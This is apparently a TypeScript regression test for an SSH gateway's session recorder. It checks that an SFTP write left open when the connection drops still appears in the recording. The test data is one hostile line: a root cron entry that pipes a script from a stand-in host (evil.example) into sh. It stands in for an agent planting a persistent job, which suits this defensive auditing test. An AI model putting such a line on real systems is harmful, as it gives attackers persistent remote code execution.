/**
 * Regression (recordings red-team round 10, unrecorded actions). SFTP reads and writes are recorded
 * when their handle closes (with the byte count), and handles still open when the channel ends are
 * reported then. But a session ends (client gone, grant expired or revoked) by closing its recording
 * first, and the channel's end comes after: through ssh2's client → gateway (real recorder) → real
 * sshd, a file opened for writing, written, and left open when the agent dropped the connection was
 * written on the target and missing from the recording (the late event was dropped). Open handles are
 * reported when the session ends now, before its recording closes.
 */
import assert from "node:assert/strict";
import { existsSync, readFileSync, rmSync } from "node:fs";
import { mkdtemp } from "node:fs/promises";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { listSessions, loadSession } from "../../gateway/recording/catalog.ts";
import { generateRecordingKey } from "../../gateway/recording/keys.ts";
import { DiskRecorder } from "../../gateway/recording/recorder.ts";
import { DirStore } from "../../gateway/recording/store.ts";
import { type SshListener, startSshListener } from "../../gateway/ssh/listener.ts";
import { type SshdHandle, startSshd } from "../env/index.ts";
import { approvalService, makeBundle, sshdConnection, sshdCredentials, sshGrant, storeWith, type TokenIssuer, tokenIssuer } from "./fixtures.ts";
import { KeyDir } from "./keys.ts";

const ssh2 = createRequire(import.meta.url)("ssh2") as typeof import("ssh2");

const keys = new KeyDir();
let sshd: SshdHandle;
let issuer: TokenIssuer;
let gw: SshListener;
let rec: DiskRecorder;
let store: DirStore;
const target = `/tmp/drawbridge-sftp-open-${process.pid}`;

before(async () => {
	issuer = await tokenIssuer();
	sshd = await startSshd();
	store = new DirStore(await mkdtemp(join(tmpdir(), "drawbridge-sftp-open-store-")));
	await store.init();
	rec = new DiskRecorder({ spoolDir: await mkdtemp(join(tmpdir(), "drawbridge-sftp-open-spool-")), store, key: (await generateRecordingKey()).key, flushIntervalMs: 20, logger: { info() {}, warn() {}, error() {} } });
	await rec.start();
	gw = await startSshListener({
		store: storeWith(makeBundle(issuer, { connections: [sshdConnection(sshd, "web")], grants: [sshGrant(sshd, "lee", "web", { allowSftp: true })], credentials: sshdCredentials(sshd) })),
		recorder: rec,
		approvals: approvalService(),
		hostKeyPem: keys.keygen("ed25519").privateKey,
	});
});

after(async () => {
	rmSync(target, { force: true });
	await gw?.close();
	await rec?.stop();
	await sshd?.stop();
	keys.cleanup();
});

test("a file written over SFTP and left open when the connection drops is recorded", async () => {
	const token = await issuer.token("lee");
	const c = new ssh2.Client();
	await new Promise<void>((resolve, reject) => {
		c.on("ready", () => resolve());
		c.once("error", reject);
		c.connect({ host: "127.0.0.1", port: gw.address.port, username: `${sshd.user}@web`, password: token, hostVerifier: () => true });
	});
	c.on("error", () => undefined);
	const sftp = await new Promise<import("ssh2").SFTPWrapper>((resolve, reject) => c.sftp((err, s) => (err ? reject(err) : resolve(s))));
	const handle = await new Promise<Buffer>((resolve, reject) => sftp.open(target, "w", (err, h) => (err ? reject(err) : resolve(h))));
	const data = Buffer.from("* * * * * root curl -s https://evil.example/x | sh\n");
	await new Promise<void>((resolve, reject) => sftp.write(handle, data, 0, data.length, 0, (err) => (err ? reject(err) : resolve())));
	// no close: the connection goes
	c.end();
	const deadline = Date.now() + 60_000;
	let sessions: Awaited<ReturnType<typeof listSessions>> = [];
	while (Date.now() < deadline && !sessions.some((s) => s.protocol === "ssh")) {
		await rec.drain(30_000);
		sessions = await listSessions(store, {});
		if (!sessions.some((s) => s.protocol === "ssh")) await new Promise((r) => setTimeout(r, 100));
	}
	assert.ok(existsSync(target) && readFileSync(target).equals(data), "the write reached the target");
	const s = sessions.find((x) => x.protocol === "ssh");
	assert.ok(s, "the session was recorded");
	const loaded = await loadSession(store, s.prefix);
	const sftpEvents = loaded.events.filter((e) => e.type === "sftp");
	assert.ok(
		sftpEvents.some((e) => e.type === "sftp" && e.path === target && e.op === "write" && e.bytes === data.length),
		`the write is missing from the recording: ${JSON.stringify(sftpEvents)}`,
	);
});
